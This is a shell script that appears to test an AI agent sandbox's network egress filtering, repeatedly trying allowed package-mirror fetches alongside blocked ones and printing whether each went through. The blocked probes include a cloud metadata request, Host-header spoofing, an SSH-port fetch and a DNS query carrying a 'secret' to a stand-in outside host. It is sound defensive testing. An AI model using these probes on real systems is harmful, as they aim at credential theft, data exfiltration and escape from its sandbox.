# Tries what an agent's shell might try, again and again. The first three are allowed.
trap 'exit 0' TERM

# try WHAT COMMAND...: runs the command and prints its outcome in one line.
try() {
	what=$1
	shift
	if said=$(timeout 5 "$@" 2>&1); then
		echo "$what: went through: $(echo "$said" | tail -n 1)"
	else
		echo "$what: refused: $(echo "$said" | tail -n 1)"
	fi
}

fetch() {
	what=$1
	shift
	try "$what" wget -q -O - "$@"
}

while true; do
	fetch "packages, by name over TLS" https://packages.example.com/
	fetch "mirror, by name" http://mirror.example.com:8080/
	fetch "mirror, by address" "http://$MIRROR:8080/"

	fetch "another address" "http://$ELSEWHERE/"
	fetch "another address in the mirror's name" --header "Host: mirror.example.com" "http://$ELSEWHERE:8080/"
	fetch "another port of the mirror" "http://$MIRROR:22/"
	fetch "cloud metadata" http://169.254.169.254/latest/meta-data/
	fetch "a name on no list" http://elsewhere.example.net/
	try "a secret in a DNS question" nslookup secret.elsewhere.example.net "$ELSEWHERE"
	try "an echo request" ping -c 1 -W 1 "$ELSEWHERE"
	sleep 5 &
	wait $!
done
